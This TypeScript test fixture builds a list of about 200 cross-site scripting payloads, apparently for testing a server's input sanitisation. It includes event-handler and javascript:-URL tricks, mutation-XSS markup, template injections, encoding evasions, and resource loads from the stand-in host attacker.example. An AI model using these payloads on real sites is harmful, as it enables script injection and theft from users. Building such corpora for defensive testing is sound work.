import { isWhole } from '../../server/src/testing/whole.ts';

/** Code that runs if it gets through: it counts in the top page. */
const run = 'hit(1)';
const away = 'https://attacker.example/';
const encode = (text: string) => text.replaceAll(/./gsu, (letter) => `&#${letter.codePointAt(0)};`);

/** Elements that load something which fails or succeeds, with the handler that then runs. */
const loading = [
  ['img src=x', 'error'],
  ['img src=/favicon.ico', 'load'],
  ['image src=x', 'error'],
  ['video src=x', 'error'],
  ['audio src=x', 'error'],
  ['video><source src=x', 'error'],
  ['object data=x', 'error'],
  ['embed src=/favicon.ico', 'load'],
  ['iframe src=/favicon.ico', 'load'],
  ['link rel=stylesheet href=x', 'error'],
  ['script src=x', 'error'],
  ['input type=image src=x', 'error'],
  ['svg', 'load'],
  ['body', 'load'],
  ['body', 'pageshow'],
  ['style', 'load'],
  ['details open', 'toggle'],
  ['marquee', 'start'],
  ['input autofocus', 'focus'],
  ['select autofocus', 'focus'],
  ['p tabindex=1 autofocus', 'focus'],
  ['p contenteditable autofocus', 'focus'],
  ['svg><animate attributeName=x dur=1s', 'begin'],
  ['svg><set attributeName=x', 'begin'],
  ['svg><image href=x', 'error'],
  ['math><mtext><img src=x', 'error'],
  ['div style=animation-name:a', 'animationstart'],
  ['div style=transition:all', 'transitionend'],
  ['button popovertarget=x', 'beforetoggle'],
  ['p hidden=until-found', 'beforematch'],
] as const;

/** Spellings of one tag. */
const spellings = [
  (tag: string, event: string) => `<${tag} on${event}=${run}>`,
  (tag: string, event: string) => `"><${tag.toUpperCase()} ON${event}="${run}"//`,
  (tag: string, event: string) => `</title></textarea><${tag}\tOn${event} = '${run}' `,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java&#10;script&colon;${run}`,
  encode(`javascript:${run}`).slice(0, 120),
  `javascript://%0a${run}`,
  `jav\u200bascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=`,
  `blob:${run}`,
  `//attacker.example/x`,
];
const linked = links.flatMap((link) => [
  `<a href="${link}" autofocus>x</a>`,
  `<iframe src="${link}"></iframe>`,
  `<form action="${link}"><button autofocus>x`,
]);

/** Markup that parses differently the second time. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><svg onload=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<? foo="><script>${run}</script>">`,
  `<![if <img src=x onerror=${run}> ]>`,
  `<a title="&quot;><img src=x onerror=${run}>">x</a>`,
];

/** Places where text is inserted into a script, a template or a style. */
const injecting = [
  `{{constructor.constructor('${run}')()}}`,
  `{{=<% %>=}}<%${run}%>`,
  '${' + run + '}',
  `#{${run}}`,
  `<%= ${run} %>`,
  `{message}</p><script>${run}</script>`,
  `';${run};//`,
  `";${run};//`,
  '`;' + run + ';//',
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `</script><script>${run}</script>`,
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT >`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<svg><script>${run}</script>`,
  `<svg><script href=data:,${run} />`,
  `<script type=module>${run}</script>`,
  `<script src=${away}a.js></script>`,
  `<img src=${away}a.png>`,
  `<img srcset="${away}b.png 2x">`,
  `<picture><source srcset=${away}c.png><img>`,
  `<video poster=${away}d.png>`,
  `<body background=${away}e.png>`,
  `<table background=${away}f.png>`,
  `<link rel=stylesheet href=${away}g.css>`,
  `<link rel=prefetch href=${away}h>`,
  `<style>@import "${away}i.css";</style>`,
  `<style>*{background:url(${away}j.png)}</style>`,
  `<p style="background:url(${away}k.png)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="-moz-binding:url(${away}l.xml)">x</p>`,
  `<meta http-equiv=refresh content="0;url=${away}m">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=${away}>`,
  `<base target=_top href=javascript:${run}//>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc=&lt;script&gt;top.${run}&lt;/script&gt;></iframe>`,
  `<object data="data:text/html,<script>top.${run}</script>"></object>`,
  `<portal src=${away}n></portal>`,
  `<a ping=${away}o href=/>x</a>`,
  `<form action=${away}p><input name=attributes><input name=nodeName>`,
  `<img name=getElementById><img name=cookie>`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u2039img src=x onerror=${run}\u203a`,
  `%3Cimg src=x onerror=${run}%3E`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `<im\u0131g src=x onerror=${run}><\u017fcript>${run}</\u017fcript>`,
  `\u202e<img src=x onerror=${run}>`,
  `x\ufeff<img src=x onerror=${run}>`,
  `<img\u00a0src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror=${encode(run)}>`,
  `<img src=x onerror="hit\`1\`">`,
  `<img src=x:x onerror\u3000=${run}>`,
  `<x onclick=${run} style=position:fixed;inset:0>x`,
  `=HYPERLINK("${away}q","x")`,
  `__proto__[hit]=${run}`,
];

/** 200 ways to run or load something, each short enough for a name. */
export const hostileMarkup: readonly string[] = [
  ...loading.flatMap(([tag, event]) => spellings.map((spell) => spell(tag, event))),
  ...linked,
  ...mutating,
  ...injecting,
];

/** All in the whole set, otherwise a few of each kind. */
const chosen = isWhole ? hostileMarkup : hostileMarkup.filter((_, index) => index % 17 === 0);

/** Each as one line of text: no field takes control characters. */
// eslint-disable-next-line no-control-regex -- taking them out is the point
const controls = /[\u0000-\u001f\u007f-\u009f]/g;
export const hostileLines: readonly string[] = chosen.map((text) =>
  text.replaceAll(controls, ' ').trim(),
);

/** Ten for each item. */
export const hostileParts: readonly (readonly string[])[] = Array.from(
  { length: Math.ceil(hostileLines.length / 10) },
  (_, part) => hostileLines.slice(part * 10, part * 10 + 10),
);

/** Joins texts to lines of a maximum number of characters. */
export function packTexts(texts: readonly string[], max: number): string[] {
  const packed: string[] = [];
  for (const text of texts) {
    const longer = `${packed.at(-1) ?? ''} ${text}`;
    if (packed.length > 0 && longer.length <= max) packed[packed.length - 1] = longer;
    else packed.push(text);
  }
  return packed;
}
